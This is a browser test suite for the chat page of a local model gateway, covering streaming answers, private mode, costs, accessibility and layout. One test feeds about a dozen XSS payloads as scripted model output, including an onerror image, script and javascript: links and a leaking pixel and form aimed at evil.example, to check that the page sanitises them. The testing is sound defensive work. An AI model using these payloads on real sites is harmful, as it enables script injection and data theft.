// test_page.mjs: the page in a real browser against the real executable and the real model. What a model might write to
// do harm is put in at the network's edge, where the page cannot tell the difference.
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import zlib from 'node:zlib';
import { createRequire } from 'node:module';
import { chromium } from 'playwright-core';
import { makeHome, model, root, run, sleep, start, startWeir, test, until, weirExe } from './harness.mjs';

const FIRST_LOAD_MAX = 200 * 1024;
const executablePath = [process.env.CHROMIUM, '/usr/bin/chromium', '/usr/bin/chromium-browser'].find((p) => p && fs.existsSync(p));
if (!executablePath) throw new Error('Chromium is needed: set CHROMIUM, or run tools/setup test');
const axe = fs.readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');
const shots = process.env.WEIR_SHOTS || path.join(root, 'build', 'page-shots');
fs.mkdirSync(shots, { recursive: true });

const w = await startWeir();
const browser = await chromium.launch({ executablePath, args: process.getuid() === 0 ? ['--no-sandbox'] : [] });

// A page of its own for each case, which is watched: errors, policy violations, and requests to anybody else.
async function open({ base = w.base, expectErrors = false, storage, ...options } = {}) {
  const context = await browser.newContext({ viewport: { width: 1280, height: 800 }, storageState: storage, ...options });
  await context.addInitScript(() => {
    window.violations = [];
    document.addEventListener('securitypolicyviolation', (e) => window.violations.push(`${e.violatedDirective} ${e.blockedURI}`));
  });
  const page = await context.newPage();
  const seen = { requests: [], elsewhere: [], errors: [] };
  page.on('request', (r) => {
    seen.requests.push(r);
    const u = new URL(r.url());
    if (!['data:', 'blob:'].includes(u.protocol) && u.origin !== new URL(base).origin) seen.elsewhere.push(r.url());
  });
  page.on('console', (m) => { if (['error', 'warning'].includes(m.type())) seen.errors.push(m.text()); });
  page.on('pageerror', (e) => seen.errors.push(String(e)));
  await page.goto(base);
  await page.getByRole('button', { name: /^Model:/ }).waitFor();
  const check = async () => {
    assert.deepEqual(seen.elsewhere, [], 'a request to elsewhere');
    assert.deepEqual(await page.evaluate(() => window.violations), [], 'a violation of the policy');
    if (!expectErrors) assert.deepEqual(seen.errors, [], 'an error on the console');
  };
  return { page, seen, check, context, close: async () => { await check(); await context.close(); } };
}

const box = (page) => page.getByRole('textbox', { name: 'Message', exact: true });
const line = (page) => page.getByRole('button', { name: 'Explain this answer' });
async function ask(page, text) {
  await box(page).fill(text);
  await box(page).press('Enter');
}
// Short answers: what is tested here is the page, not how long a small model talks.
async function limit(page, tokens) {
  await page.getByRole('button', { name: /^Options/ }).click();
  await page.getByRole('textbox', { name: 'Most tokens of an answer' }).fill(String(tokens));
  await page.getByRole('button', { name: /^Options/ }).click();
}
async function answered(page, n = 1) {
  await line(page).nth(n - 1).waitFor({ timeout: 120000 });
}
const get = async (p) => (await fetch(`${w.base}${p}`)).json();
const newest = async () => (await get('/weir/v1/requests?limit=1')).rows[0];
// One scripted answer of the server.
const script = (page, events) => page.route('**/weir/v1/chat', (r) => r.fulfill({
  contentType: 'application/x-ndjson', body: events.map((e) => JSON.stringify(e)).join('\n') + '\n',
}));
async function serious(page) {
  await page.evaluate(axe);
  const found = await page.evaluate(() => window.axe.run(document, { resultTypes: ['violations'] }));
  return found.violations.filter((v) => ['serious', 'critical'].includes(v.impact))
    .map((v) => `${v.id}: ${v.nodes.map((n) => n.html.slice(0, 160)).join(' | ')}`);
}

test('the first load is at most 200 KB compressed', () => {
  const dir = path.join(root, 'src/app/page');
  const html = fs.readFileSync(path.join(dir, 'index.html'), 'utf8');
  const files = ['index.html', ...[...html.matchAll(/(?:src|href)="\/([^"]+)"/g)].map((m) => m[1])];
  assert.ok(files.some((f) => f.endsWith('.js')) && files.some((f) => f.endsWith('.css')), files.join());
  const size = [...new Set(files)].reduce((n, f) => n + zlib.gzipSync(fs.readFileSync(path.join(dir, f)), { level: 9 }).length, 0);
  console.log(`  first load: ${size} bytes compressed`);
  assert.ok(size <= FIRST_LOAD_MAX, `${size} bytes`);
  assert.doesNotMatch(html, /<script(?![^>]*\bsrc=)/, 'a script inside the page');
});

test('the page comes with its policy and says what weir is', async () => {
  const res = await fetch(w.base, { headers: { accept: 'text/html' } });
  assert.match(res.headers.get('content-security-policy'), /default-src 'self'/);
  assert.match(res.headers.get('content-security-policy'), /frame-ancestors 'none'/);
  assert.doesNotMatch(res.headers.get('content-security-policy'), /script-src|unsafe-eval/);
  const t = await open();
  await t.page.getByText('That is a help, not a promise').waitFor();
  await t.page.getByText(/Here: smollm2:135m/).waitFor();
  assert.deepEqual(await serious(t.page), []);
  await t.close();
});

test('a question is answered in a stream, with its line and its row', async () => {
  const t = await open();
  await limit(t.page, 120);
  await t.page.evaluate(() => {
    window.lengths = new Set();
    new MutationObserver(() => {
      const n = document.querySelector('.answer .md')?.textContent.length;
      if (n) window.lengths.add(n);
    }).observe(document.body, { childList: true, subtree: true, characterData: true });
  });
  await ask(t.page, 'Tell me about rivers and the sea.');
  await answered(t.page);
  assert.ok(await t.page.evaluate(() => window.lengths.size) >= 3, 'the text grew in steps');
  const text = await line(t.page).innerText();
  assert.match(text, /this machine/);
  assert.match(text, /smollm2:135m/);
  assert.match(text, /[\d.]+ tokens\/s/);
  assert.match(text, /first token [\d.]+ m?s/);
  assert.match(text, /cost \$0\b/);
  assert.match(text, /gpt-5: \$0\.\d*[1-9]/);
  const row = await newest();
  assert.equal(row.status, 'ok');
  assert.equal(row.provider, 'local');
  assert.equal(row.client, 'page');
  assert.match(text, new RegExp(`${row.tokens_per_s >= 10 ? row.tokens_per_s.toFixed(0) : row.tokens_per_s.toFixed(1)} tokens/s`));
  await t.close();
});

test('the line opens the whole explanation, and Esc closes it', async () => {
  const t = await open();
  await limit(t.page, 24);
  await ask(t.page, 'What is the capital of France?');
  await answered(t.page);
  await line(t.page).focus();
  await t.page.keyboard.press('Enter');
  const sheet = t.page.getByRole('dialog');
  await sheet.getByText('What weir saw in the request').waitFor();
  const plan = (await newest()).plan;
  await sheet.getByText(plan.sentence).first().waitFor();
  for (const s of ['Privacy', 'Who could answer, best first', 'Who could not, and why', 'What it took', 'The row in the books']) await sheet.getByText(s).first().waitFor();
  for (const c of plan.removed) assert.ok((await sheet.innerText()).includes(c.id.replace(/^local\//, '')), c.id);
  await sheet.getByText('no key').first().waitFor();
  assert.deepEqual(await serious(t.page), []);
  await t.page.keyboard.press('Escape');
  await sheet.waitFor({ state: 'detached' });
  assert.equal(await t.page.evaluate(() => document.activeElement?.getAttribute('aria-label')), 'Explain this answer');
  await t.close();
});

test('private: the header goes along, the row is of this device, and nothing is kept unless asked', async () => {
  const t = await open();
  await limit(t.page, 16);
  const toggle = t.page.getByRole('switch', { name: /Private/ });
  assert.equal(await toggle.getAttribute('aria-checked'), 'false');
  await toggle.click();
  assert.equal(await toggle.getAttribute('aria-checked'), 'true');
  await t.page.getByText('nothing leaves this machine').first().waitFor();
  await ask(t.page, 'Write one word.');
  await answered(t.page);
  const sent = t.seen.requests.find((r) => r.url().endsWith('/weir/v1/chat'));
  assert.equal(sent.headers()['x-weir-preset'], 'private');
  assert.match(sent.headers()['x-weir-conversation'], /^[0-9a-f]{32}$/);
  const row = await newest();
  assert.equal(row.zone, 'device');
  assert.equal(row.req_zone, 'device');
  assert.ok(row.labels.includes('header'), JSON.stringify(row.labels));
  assert.match(row.plan.request.zone_reason, /x-weir-preset/);
  // The choice stays with the device; the conversation does not.
  await t.page.reload();
  await t.page.getByRole('switch', { name: /Private/, checked: true }).waitFor();
  await t.page.getByText('Conversations are kept in this browser only.').waitFor();
  await limit(t.page, 16);
  await ask(t.page, 'Write another word.');
  await answered(t.page);
  await t.page.getByRole('button', { name: 'Keep it in this browser' }).click();
  await t.page.getByText('You keep this conversation').waitFor();
  await t.page.reload();
  await t.page.getByRole('button', { name: 'Private: Write another word.', exact: true }).click();
  await answered(t.page);
  await t.close();
});

test('something sensitive is kept here and said to be', async () => {
  const t = await open();
  await t.page.getByRole('button', { name: 'Where would this go?' }).click();
  await box(t.page).fill('Write to jane.doe@example.com about her card 4111 1111 1111 1111.');
  const verdict = t.page.getByRole('region', { name: 'Where this would go' });
  await verdict.getByText('smollm2:135m', { exact: true }).waitFor();
  await verdict.getByText('this machine').first().waitFor();
  assert.ok(!t.seen.requests.some((r) => r.url().endsWith('/weir/v1/chat')), 'a verdict calls nobody');
  await verdict.getByRole('button', { name: 'The whole explanation' }).click();
  await t.page.getByRole('dialog').getByText('Only this machine may answer.').waitFor();
  await t.page.keyboard.press('Escape');
  await t.page.getByRole('button', { name: 'Where would this go?' }).click();
  await limit(t.page, 16);
  await box(t.page).press('Enter');
  await answered(t.page);
  await line(t.page).click();
  await t.page.getByRole('dialog').getByText(/a payment card/).waitFor();
  assert.equal((await newest()).req_zone, 'device');
  await t.close();
});

test('the zone that is set under Options is sent', async () => {
  const t = await open();
  await limit(t.page, 8);
  await t.page.getByRole('button', { name: /^Options/ }).click();
  await t.page.getByRole('combobox', { name: 'May be answered by' }).selectOption('site');
  await t.page.getByRole('textbox', { name: 'System prompt' }).fill('You are brief.');
  await ask(t.page, 'Hello');
  await answered(t.page);
  const sent = t.seen.requests.find((r) => r.url().endsWith('/weir/v1/chat'));
  assert.equal(sent.headers()['x-weir-zone'], 'site');
  assert.deepEqual(sent.postDataJSON().messages, [{ role: 'system', content: 'You are brief.' }, { role: 'user', content: 'Hello' }]);
  assert.equal(sent.postDataJSON().max_completion_tokens, 8);
  assert.equal((await newest()).req_zone, 'site');
  await t.close();
});

for (const how of ['the button', 'Esc']) {
  test(`${how} stops an answer, and the books say so`, async () => {
    const t = await open();
    // The ends are forbidden: it is under way whenever it is stopped.
    await t.page.route('**/weir/v1/chat', (r) => r.continue({ postData: { ...r.request().postDataJSON(), logit_bias: { 0: -100, 2: -100 } } }));
    const coming = t.page.waitForResponse('**/weir/v1/chat');
    await ask(t.page, 'Write a very long story about a river, with many chapters.');
    const answer = await coming;
    await t.page.locator('.answer .md').waitFor({ timeout: 60000 });
    if (how === 'Esc') await t.page.keyboard.press('Escape');
    else await t.page.getByRole('button', { name: 'Stop answering' }).click();
    await t.page.getByText('You stopped this answer.').waitFor();
    const length = (await t.page.locator('.answer .md').innerText()).length;
    const id = (await answer.headers())['x-weir-id'];
    await until('the row is closed', async () => (await newest()).id === id && (await newest()).status !== 'open');
    assert.equal((await newest()).status, 'cancelled');
    await line(t.page).getByText('stopped').waitFor();
    assert.equal((await t.page.locator('.answer .md').innerText()).length, length, 'nothing comes after a stop');
    await t.close();
  });
}

test('a second turn carries the first; edit and ask again replace what followed', async () => {
  const t = await open();
  await limit(t.page, 12);
  await ask(t.page, 'My name is Ada.');
  await answered(t.page);
  await ask(t.page, 'What is my name?');
  await answered(t.page, 2);
  const bodies = () => t.seen.requests.filter((r) => r.url().endsWith('/weir/v1/chat')).map((r) => r.postDataJSON().messages);
  assert.deepEqual(bodies()[1].map((m) => m.role), ['user', 'assistant', 'user']);
  const [a, b] = t.seen.requests.filter((r) => r.url().endsWith('/weir/v1/chat')).map((r) => r.headers()['x-weir-conversation']);
  assert.equal(a, b);
  await t.page.getByRole('button', { name: 'Ask again' }).click();
  await until('a third request', () => bodies().length === 3);
  assert.deepEqual(bodies()[2], bodies()[1]);
  await answered(t.page, 2);
  await t.page.getByRole('button', { name: 'Edit message' }).first().click();
  await t.page.getByRole('textbox', { name: 'Change your message' }).fill('My name is Grace.');
  await t.page.getByRole('button', { name: 'Send again' }).click();
  await until('a fourth request', () => bodies().length === 4);
  assert.deepEqual(bodies()[3], [{ role: 'user', content: 'My name is Grace.' }]);
  await answered(t.page);
  assert.equal(await t.page.locator('article').count(), 2);
  await t.close();
});

test('conversations stay in this browser: listed, opened, renamed, deleted, undone', async () => {
  const t = await open();
  await limit(t.page, 8);
  await ask(t.page, 'First things first');
  await answered(t.page);
  await t.page.getByRole('button', { name: 'New conversation' }).click();
  await t.page.getByText('What may stay here, stays here.').waitFor();
  await ask(t.page, 'Second to none');
  await answered(t.page);
  await t.page.reload();
  const list = t.page.getByRole('navigation', { name: 'Conversations' });
  await list.getByRole('button', { name: 'First things first', exact: true }).click();
  await t.page.getByRole('article', { name: 'You' }).getByText('First things first').waitFor();
  await answered(t.page);
  await line(t.page).click(); // a kept answer has its explanation still
  await t.page.getByRole('dialog').getByText('Who could answer, best first').waitFor();
  await t.page.keyboard.press('Escape');
  await list.getByRole('button', { name: 'First things first', exact: true }).hover();
  await list.getByRole('button', { name: 'Rename First things first' }).click();
  await t.page.getByRole('textbox', { name: 'Title' }).fill('A new name');
  await t.page.keyboard.press('Enter');
  await list.getByRole('button', { name: 'A new name', exact: true }).waitFor();
  await list.getByRole('button', { name: 'Second to none', exact: true }).hover();
  await list.getByRole('button', { name: 'Delete Second to none' }).click();
  await t.page.getByRole('button', { name: 'Undo' }).click();
  await list.getByRole('button', { name: 'Second to none', exact: true }).hover();
  await list.getByRole('button', { name: 'Delete Second to none' }).click();
  await t.page.getByText('Deleted.').waitFor();
  await t.page.reload();
  await list.getByRole('button', { name: 'A new name', exact: true }).waitFor();
  assert.equal(await list.getByRole('button', { name: 'Second to none', exact: true }).count(), 0);
  await t.close();
});

const attacks = [
  '<img src=x onerror="window.hacked=1">', '<script>window.hacked=2</script>', '<svg onload="window.hacked=3"></svg>',
  '<iframe src="https://evil.example/frame"></iframe>', '<a href="javascript:window.hacked=4">raw</a>',
  '[one](javascript:window.hacked=5)', '[two](JaVaScRiPt:window.hacked=6)', '[three](data:text/html,<script>window.hacked=7</script>)',
  '![pixel](https://evil.example/pixel.png?leak=1)', '![x](x" onerror="window.hacked=8)', '<style>body{background:url(https://evil.example/s)}</style>',
  '<form action="https://evil.example/"><button>go</button></form>', '<link rel="stylesheet" href="https://evil.example/c.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">', '[four](https://good.example/page "title")',
  '```"><img src=x onerror=window.hacked=9>\n</code></pre><script>window.hacked=10</script>\n```', '<math><mi//xlink:href="data:x,<script>window.hacked=11</script>">',
];
test('what a model writes cannot run, and cannot make the browser call anybody', async () => {
  const t = await open();
  await script(t.page, [...attacks.flatMap((text) => [{ type: 'text', text: `${text}\n\n` }]), { type: 'done', reason: 'stop' }]);
  await ask(t.page, 'Attack');
  await t.page.getByRole('link', { name: 'four' }).waitFor();
  await sleep(500);
  const answer = t.page.locator('.answer .md');
  assert.equal(await t.page.evaluate(() => window.hacked), undefined);
  assert.equal(await answer.locator('img, script, svg, iframe, style, form, link, meta, math, object, input').count(), 0);
  const links = await answer.locator('a').evaluateAll((v) => v.map((a) => ({ href: a.getAttribute('href'), target: a.target, rel: a.rel, text: a.textContent })));
  for (const l of links) assert.ok(l.href === null || /^https?:/.test(l.href), JSON.stringify(l));
  const four = links.find((l) => l.text === 'four');
  assert.equal(four.target, '_blank');
  assert.match(four.rel, /noopener/);
  const pixel = links.find((l) => l.text === 'image: pixel');
  assert.equal(pixel.href, 'https://evil.example/pixel.png?leak=1');
  assert.equal(await answer.evaluate((el) => [...el.querySelectorAll('*')].flatMap((n) => n.getAttributeNames()).filter((n) => n.startsWith('on')).length), 0);
  for (const l of await answer.locator('a:not([href])').all()) await l.click();
  assert.equal(await t.page.evaluate(() => window.hacked), undefined);
  assert.match(await answer.innerText(), /<img src=x onerror/, 'what was written can be read');
  await t.close();
});

test('a person\'s own message is text', async () => {
  const t = await open();
  await limit(t.page, 4);
  await ask(t.page, '<img src=x onerror="window.hacked=1"> **not bold**');
  await answered(t.page);
  assert.equal(await t.page.getByRole('article', { name: 'You' }).locator('img, strong').count(), 0);
  assert.equal(await t.page.evaluate(() => window.hacked), undefined);
  await t.close();
});

test('reasoning is folded, tool calls are shown, code is coloured and copied', async () => {
  const t = await open({ permissions: ['clipboard-read', 'clipboard-write'] });
  await script(t.page, [
    { type: 'reasoning', text: 'Let me **think**.' }, { type: 'text', text: 'Here:\n\n```python\ndef f(x):\n    return x\n```\n' },
    { type: 'tool', tool: 0, id: 'c1', name: 'weather' }, { type: 'tool_args', tool: 0, text: '{"city":' }, { type: 'tool_args', tool: 0, text: '"Oslo"}' },
    { type: 'done', reason: 'tool_calls' },
  ]);
  await ask(t.page, 'Go');
  const thoughts = t.page.getByText('Let me think.');
  await t.page.getByText('Thoughts', { exact: true }).waitFor();
  assert.equal(await thoughts.isVisible(), false);
  await t.page.getByText('Thoughts', { exact: true }).click();
  await thoughts.waitFor();
  await t.page.getByText('Asks for the tool').click();
  await t.page.getByText('"city": "Oslo"').waitFor();
  await t.page.locator('.hljs-keyword').first().waitFor();
  await t.page.getByRole('button', { name: 'Copy code' }).click();
  assert.equal(await t.page.evaluate(() => navigator.clipboard.readText()), 'def f(x):\n    return x');
  await t.close();
});

test('an answer that breaks off is not shown as whole', async () => {
  const t = await open();
  await script(t.page, [{ type: 'text', text: 'Half an ans' }]);
  await ask(t.page, 'Go');
  await t.page.getByRole('alert').getByText('The answer ended without its end.').waitFor();
  await t.close();
});

test('a refusal says why and what to do', async () => {
  const t = await open({ expectErrors: true });
  await t.page.evaluate(() => localStorage.setItem('weir.model', 'openai/gpt-5'));
  await t.page.reload();
  await t.page.getByRole('switch', { name: /Private/ }).click();
  await ask(t.page, 'Send this to the cloud');
  const alert = t.page.getByRole('alert');
  await alert.getByText(/turn Private off|Choose a model on this machine/).waitFor();
  await alert.getByRole('button', { name: 'Why?' }).click();
  const sheet = t.page.getByRole('dialog');
  await sheet.getByText('Who could not, and why').waitFor();
  await sheet.getByText('openai/gpt-5', { exact: true }).waitFor();
  assert.equal((await newest()).code, 'POLICY');
  await t.close();
});

test('the picker names every model, and why one cannot be used', async () => {
  const t = await open();
  await t.page.getByRole('button', { name: /^Model: auto/ }).click();
  const options = t.page.getByRole('option');
  const models = (await get('/weir/v1/models')).models;
  assert.equal(await options.count(), models.length + 1);
  assert.equal(await options.filter({ hasText: 'no key' }).count(), models.filter((m) => m.note === 'no key').length);
  const off = options.filter({ hasText: 'no key' }).first();
  assert.equal(await off.getAttribute('aria-disabled'), 'true');
  await off.click({ force: true });
  assert.equal(await t.page.getByRole('button', { name: /^Model: auto/ }).count(), 1, 'still auto');
  assert.deepEqual(await serious(t.page), []);
  await t.page.getByRole('combobox', { name: 'Find a model' }).fill('smol');
  await t.page.keyboard.press('Enter');
  await t.page.getByRole('button', { name: `Model: ${model}` }).waitFor();
  await limit(t.page, 8);
  await ask(t.page, 'Hello');
  await answered(t.page);
  assert.match(await line(t.page).innerText(), /you chose it/);
  await t.close();
});

test('costs: rows, totals, a chart, and each request with its explanation', async () => {
  const t = await open();
  await t.page.getByRole('link', { name: 'Costs' }).click();
  const table = t.page.getByRole('region', { name: 'Costs by model' });
  await table.getByRole('cell', { name: model }).waitFor();
  const c = await get('/weir/v1/costs?by=model');
  const row = table.getByRole('row').filter({ hasText: model });
  assert.ok((await row.innerText()).includes(c.groups.find((g) => g.group === model).requests.toLocaleString('en-US')));
  await t.page.locator('.u-wrap canvas').waitFor();
  await t.page.getByText('No monthly budget.').waitFor();
  for (const by of ['Day', 'Month', 'Provider', 'Place']) {
    await t.page.getByRole('button', { name: by, exact: true }).click();
    await t.page.getByRole('columnheader', { name: by, exact: true }).waitFor();
    assert.ok(await t.page.locator('table.costs tbody tr').count() >= 1, by);
  }
  assert.deepEqual(await serious(t.page), []);
  const recent = t.page.getByRole('region', { name: 'Recent requests' });
  assert.ok(await recent.getByRole('row').count() > 5);
  await recent.getByRole('button', { name: /^Explain the request/ }).first().click();
  await t.page.getByRole('dialog').getByText('What weir saw in the request').waitFor();
  await t.close();
});

test('an unknown price is unknown, and a budget has its bar', async () => {
  const t = await open();
  const sums = { requests: 1, failed: 0, cancelled: 0, open: 0, input: 5, cached: 0, output: 5, estimated: 0, unknown_cost: 1,
    cost_nano: null, cost: 'unknown', baseline_nano: null, baseline: 'unknown', saved_nano: null, saved: 'unknown' };
  await t.page.route('**/weir/v1/costs?*', (r) => r.fulfill({ json: { by: 'model', from_ms: 0, groups: [{ group: 'x', ...sums }], total: sums } }));
  const status = await get('/weir/v1/status');
  status.budget = { limit_nano: 20e9, charged_nano: 5e9, healthy: true };
  await t.page.route('**/weir/v1/status', (r) => r.fulfill({ json: status }));
  await t.page.getByRole('link', { name: 'Costs' }).click();
  const row = t.page.locator('table.costs tbody tr');
  await row.waitFor();
  assert.equal(await row.getByText('unknown').count(), 3);
  assert.equal(await t.page.locator('.top').getByText('$0').count(), 0);
  assert.equal(await t.page.getByRole('progressbar', { name: 'Budget used' }).getAttribute('aria-valuenow'), '25');
  await t.page.getByText('$5.00').waitFor();
  await t.close();
});

test('machine and providers: what is here, what is missing, how to add it', async () => {
  const t = await open();
  await t.page.getByRole('link', { name: 'Machine & providers' }).click();
  await t.page.getByText(/Runs models up to|too little free memory/).waitFor();
  for (const name of ['openai', 'anthropic', 'openrouter']) await t.page.getByRole('cell', { name, exact: true }).first().waitFor();
  await t.page.getByText('OPENAI_API_KEY').first().waitFor();
  assert.deepEqual(await serious(t.page), []);
  await t.close();
});

test('by keyboard alone: ask, explain, choose a model, go private, look at the costs', async () => {
  const t = await open();
  const { page } = t;
  const focused = () => page.evaluate(() => document.activeElement?.getAttribute('aria-label') ?? document.activeElement?.textContent?.trim() ?? '');
  const tabTo = async (what, key = 'Tab') => {
    for (let i = 0; i < 60; i++) {
      if (what.test(await focused())) {
        const visible = await page.evaluate(() => document.activeElement.matches(':focus-visible'));
        assert.ok(visible, `focus is seen on ${what}`);
        return;
      }
      await page.keyboard.press(key);
    }
    assert.fail(`${what} is not reached by ${key}`);
  };
  assert.match(await focused(), /^Message$/, 'the page starts where one writes');
  await tabTo(/^Options/);
  await page.keyboard.press('Enter');
  await tabTo(/^Most tokens/, 'Shift+Tab').catch(() => {});
  await page.getByRole('textbox', { name: 'Most tokens of an answer' }).focus();
  await page.keyboard.type('12');
  await tabTo(/^Message$/);
  await page.keyboard.type('Hello');
  await page.keyboard.press('Shift+Enter');
  await page.keyboard.type('there');
  await page.keyboard.press('Control+Enter');
  await answered(page);
  assert.equal(await page.getByRole('article', { name: 'You' }).innerText(), 'Hello\nthere');
  await tabTo(/^Explain this answer$/, 'Shift+Tab');
  await page.keyboard.press('Enter');
  await page.getByRole('dialog').getByText('What it took').waitFor();
  await page.keyboard.press('Escape');
  await tabTo(/^Private/, 'Shift+Tab');
  await page.keyboard.press('Space');
  await page.getByRole('switch', { checked: true }).waitFor();
  await tabTo(/^Model:/, 'Shift+Tab');
  await page.keyboard.press('Enter');
  await page.getByRole('listbox', { name: 'Models' }).waitFor();
  await page.keyboard.press('ArrowDown');
  await page.keyboard.press('Enter');
  await page.getByRole('button', { name: `Model: ${model}` }).waitFor();
  await tabTo(/^Costs$/, 'Shift+Tab');
  await page.keyboard.press('Enter');
  await page.getByRole('region', { name: 'Costs by model' }).waitFor();
  await page.keyboard.press('/');
  await until('the message box has the focus', async () => /^Message$/.test(await focused()));
  await t.close();
});

for (const scheme of ['light', 'dark']) {
  test(`${scheme}: as the system says, with the contrast people need`, async () => {
    const t = await open({ colorScheme: scheme });
    await script(t.page, [{ type: 'text', text: '# One\n\nSome `code` and a [link](https://example.org).\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nfor i in range(3):\n    print("x", i)  # three\n```\n\n> said\n' }, { type: 'done', reason: 'stop' }]);
    await ask(t.page, 'Show me');
    await t.page.locator('.hljs-keyword').first().waitFor();
    const bg = await t.page.evaluate(() => getComputedStyle(document.body).backgroundColor.match(/\d+/g).map(Number));
    assert.ok(scheme === 'dark' ? bg[0] < 60 : bg[0] > 200, bg.join());
    assert.deepEqual(await serious(t.page), []);
    const shot = path.join(shots, `${scheme}.png`);
    await t.page.screenshot({ path: shot });
    assert.ok(fs.statSync(shot).size > 10000);
    // The choice of the person goes before the system's, and stays.
    await t.page.getByRole('button', { name: 'Colours: system' }).click();
    if (scheme === 'light') await t.page.getByRole('button', { name: 'Colours: light' }).click();
    const other = await t.page.evaluate(() => getComputedStyle(document.body).backgroundColor);
    assert.notEqual(other, `rgb(${bg.join(', ')})`);
    await t.page.reload();
    assert.equal(await t.page.evaluate(() => getComputedStyle(document.body).backgroundColor), other);
    await t.close();
  });
}

test('on a phone 360 wide nothing is cut off or scrolls sideways', async () => {
  const t = await open({ viewport: { width: 360, height: 740 }, hasTouch: true, isMobile: true });
  const { page } = t;
  const fits = async (where) => {
    await page.evaluate(() => Promise.all(document.getAnimations().map((a) => a.finished)));
    const over = await page.evaluate(() => ({ page: document.documentElement.scrollWidth,
      out: [...document.querySelectorAll('button, a, input, select, textarea, p, h1, h2, h3')].filter((e) => {
        const r = e.getBoundingClientRect();
        return r.width > 0 && e.checkVisibility({ visibilityProperty: true }) && !e.closest('.scroll-x, pre, .sr, .skip, .aside') && !e.matches('.sr, .skip') && (r.right > innerWidth + 1 || r.left < -1);
      }).map((e) => e.outerHTML.slice(0, 120)) }));
    assert.ok(over.page <= 360, `${where}: ${over.page} wide`);
    assert.deepEqual(over.out, [], where);
  };
  await fits('empty');
  await limit(page, 60);
  await box(page).fill('Write a Python function with a very long line of code in it.');
  await page.getByRole('button', { name: 'Send', exact: true }).tap();
  await answered(page);
  await fits('answer');
  await line(page).tap();
  await page.getByRole('dialog').getByText('What it took').waitFor();
  await fits('explanation');
  await page.getByRole('button', { name: 'Close', exact: true }).tap();
  await page.getByRole('switch').tap();
  await page.getByText('nothing leaves this machine').first().waitFor();
  await fits('private');
  await page.getByRole('button', { name: /^Model:/ }).tap();
  await page.getByRole('listbox').waitFor();
  await fits('picker');
  await page.keyboard.press('Escape');
  for (const name of ['Costs', 'Machine & providers']) {
    await page.getByRole('button', { name: 'Side bar' }).tap();
    await page.getByRole('link', { name }).tap();
    await page.getByRole('region', { name: name === 'Costs' ? 'Costs by model' : 'Providers', exact: true }).waitFor();
    await fits(name);
  }
  await t.close();
});

test('motion is left out where the person wants none', async () => {
  const t = await open({ reducedMotion: 'reduce' });
  let release;
  const held = new Promise((r) => { release = r; });
  await t.page.route('**/weir/v1/chat', async (r) => { await held; await r.abort(); });
  await ask(t.page, 'Wait');
  await t.page.locator('.wait').waitFor();
  assert.equal(await t.page.evaluate(() => document.getAnimations().length), 0);
  release();
  await t.context.close();
});

test('a server with a key asks for it once, in this tab', async () => {
  const home = makeHome();
  const p = start(weirExe, ['serve', '--port', '0'], { env: { WEIR_HOME: home, WEIR_API_KEY: 'letmein' }, ready: /http:\/\/127\.0\.0\.1:(\d+)/ });
  await p.ready;
  const base = `http://127.0.0.1:${p.match[1]}`;
  const t = await open({ base, expectErrors: true });
  const { page } = t;
  const sheet = page.getByRole('dialog');
  await sheet.getByLabel('API key').fill('wrong');
  await page.keyboard.press('Enter');
  await sheet.getByText('That key was not accepted.').waitFor();
  await sheet.getByLabel('API key').fill('letmein');
  await page.keyboard.press('Enter');
  await sheet.waitFor({ state: 'detached' });
  await page.getByText(/Here: smollm2:135m/).waitFor();
  await page.reload();
  await page.getByText(/Here: smollm2:135m/).waitFor();
  assert.equal(await sheet.count(), 0);
  await limit(page, 8);
  await ask(page, 'Hello');
  await answered(page);
  assert.equal(await page.evaluate(() => JSON.stringify(localStorage).includes('letmein')), false);
  await t.close();
  await p.stop();
});

await run();
await browser.close();
await w.stop();
